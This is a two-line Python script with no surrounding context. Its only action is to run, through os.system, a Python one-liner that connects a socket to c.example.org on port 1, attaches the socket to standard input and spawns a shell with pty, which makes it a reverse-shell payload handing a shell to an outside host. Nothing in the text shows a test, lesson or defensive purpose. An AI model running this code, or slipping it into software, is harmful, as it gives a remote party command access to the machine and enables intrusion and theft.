import os

os.system("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"c.example.org\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'")
